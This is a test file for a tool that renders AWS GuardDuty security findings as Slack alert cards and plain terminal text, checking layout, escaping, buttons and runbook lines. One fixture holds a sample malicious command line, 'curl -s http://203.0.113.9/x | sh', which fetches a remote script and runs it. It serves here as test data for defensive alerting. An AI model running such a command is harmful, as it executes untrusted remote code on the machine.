import { describe, expect, it } from 'vitest';
import { buildAlertCard } from '../../blocks/alert-card.js';
import { buildDuetCard } from '../../blocks/duet-card.js';
import { blockKitBuilderUrl, renderCardText } from '../../blocks/render-text.js';
import { FINDING_ID, duetDecision, makeDecision, makeHit, makeSignal } from './factory.js';

const CONSOLE = `https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?macros=current&fId=${FINDING_ID}`;

describe('renderCardText', () => {
  const card = buildAlertCard(
    makeSignal({
      description: 'Alice & <bob> were here.',
      process: { name: 'curl', commandLine: 'curl -s http://203.0.113.9/x |\nsh', pid: 42 },
    }),
    makeDecision({ hits: [makeHit({ runbook: ['Ask alice', 'Rotate the key'] })] }),
    { tenantName: 'Acme', wrapper: 'sns' },
  );
  const lines = renderCardText(card).split('\n');

  it('renders the alert card as readable lines', () => {
    expect(lines.slice(0, 12)).toEqual([
      '🟠 API GetSecretValue was invoked from a known malicious IP address.',
      '─'.repeat(48),
      '',
      'Severity: 🟠 High 8.0',
      '(finding said 5.0)',
      'Account: `111122223333`',
      'Region: `eu-west-1`',
      'Finding type: `UnauthorizedAccess:IAMUser/MaliciousIPCaller`',
      'Count: 3',
      'First seen: 2026-03-01 10:00:00 UTC',
      'Last seen: 2026-03-01 12:30:05 UTC',
      '',
    ]);
  });

  it('undoes the escaping for the terminal', () => {
    expect(lines).toContain('Alice & <bob> were here.');
  });

  it('shows sections with their labels, code blocks indented', () => {
    expect(lines).toContain('Resource: IAM access key `AKIAIOSFODNN7EXAMPLE`');
    expect(lines).toContain('Command line:');
    expect(lines).toContain('    curl -s http://203.0.113.9/x |');
    expect(lines).toContain('    sh');
    expect(lines).toContain('Runbook:');
    expect(lines).toContain('1. Ask alice');
  });

  it('lists the buttons and the console link', () => {
    expect(lines).toContain(`[Acknowledge] [Investigate] [Deactivate access key] [Close] [Open in GuardDuty → ${CONSOLE}]`);
  });

  it('ends with the context line', () => {
    expect(lines.at(-2)).toBe(`Source: GuardDuty via \`sns\` · tenant \`Acme\` · id \`${FINDING_ID}\``);
    expect(lines.at(-1)).toBe('');
  });

  it('renders the DUET question and answers', () => {
    const duet = renderCardText(buildDuetCard(makeSignal(), duetDecision({ question: 'Was this you, alice?' }))).split('\n');
    expect(duet[0]).toBe('❓ API GetSecretValue was invoked from a known malicious IP address.');
    expect(duet).toContain('Was this you, alice?');
    expect(duet).toContain(`[Yes, I expected this] [No, this was not expected] [Open in GuardDuty → ${CONSOLE}]`);
  });

  it('strips terminal escapes from cards built elsewhere', () => {
    const text = renderCardText({ text: 'x', blocks: [{ type: 'section', text: { type: 'plain_text', text: 'a\u001b[2Jb' } }] });
    expect(text).toBe('a[2Jb\n');
  });
});

describe('blockKitBuilderUrl', () => {
  it('encodes the blocks into the builder link', () => {
    const card = { text: 'x', blocks: [{ type: 'divider' as const }] };
    expect(blockKitBuilderUrl(card)).toBe('https://app.slack.com/block-kit-builder/#%7B%22blocks%22%3A%5B%7B%22type%22%3A%22divider%22%7D%5D%7D');
  });

  it('round-trips a full card', () => {
    const card = buildAlertCard(makeSignal(), makeDecision());
    const url = blockKitBuilderUrl(card);
    const decoded: unknown = JSON.parse(decodeURIComponent(url.slice(url.indexOf('#') + 1)));
    expect(decoded).toEqual({ blocks: card.blocks });
  });
});
